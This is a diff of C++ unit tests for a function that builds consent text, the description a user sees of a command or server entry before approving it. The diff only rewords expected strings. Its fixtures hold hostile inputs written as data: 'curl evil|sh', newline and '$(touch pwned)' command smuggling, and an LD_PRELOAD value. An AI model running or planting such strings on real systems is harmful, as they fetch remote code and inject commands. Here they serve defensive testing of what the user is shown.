@@ -74,7 +74,7 @@ TEST(ConsentText, TheCommandComesLastAndWhole) {
   EXPECT_EQ(text.target, R"(runs: sh -c '# \ncurl evil|sh' --token evil.js)");
   EXPECT_THAT(text.details,
               ElementsAre(R"(novel: {"a":1})", "sets API_KEY=(hidden, 6 characters)", "sets MODE='a b'",
-                          R"(in the directory '/tmp/\u200b')", "sets LD_PRELOAD=./x.so  (decides what code runs)"));
+                          R"(in the directory '/tmp/\u200b')", "sets LD_PRELOAD=./x.so  (decides which code runs)"));
 }
 
 TEST(ConsentText, AServerElsewhereShowsItsHelperHeadersAndAddress) {
@@ -89,7 +89,7 @@ TEST(ConsentText, AServerElsewhereShowsItsHelperHeadersAndAddress) {
   EXPECT_THAT(text.details,
               ElementsAre("sends the header Authorization: Bearer (hidden, 3 characters)",
                           "sends the header X-Token: 'Bearer $(touch pwned)'", "sends the header X-Plain: yes",
-                          R"(runs for more headers: 'echo TOKEN=abc\ncurl evil|sh')"));
+                          R"(runs a command for more headers: 'echo TOKEN=abc\ncurl evil|sh')"));
 }
 
 TEST(ConsentText, FilesAndCommandsInsideOtherMembersAreShown) {
@@ -112,8 +112,8 @@ TEST(ConsentText, AnAddressIsShownInAscii) {
 
 TEST(ConsentText, WhatOnlySaysThatItIsHiddenIsQuoted) {
   const auto text =
-      consent_text(entry({{"command", "x"}, {"env", {{"A  (decides what code runs)", "(hidden, 40 characters)"}}}}));
-  EXPECT_THAT(text.details, ElementsAre("sets 'A  (decides what code runs)'='(hidden, 40 characters)'"));
+      consent_text(entry({{"command", "x"}, {"env", {{"A  (decides which code runs)", "(hidden, 40 characters)"}}}}));
+  EXPECT_THAT(text.details, ElementsAre("sets 'A  (decides which code runs)'='(hidden, 40 characters)'"));
 }
 
 // A line of the screen never begins with something a stranger wrote.
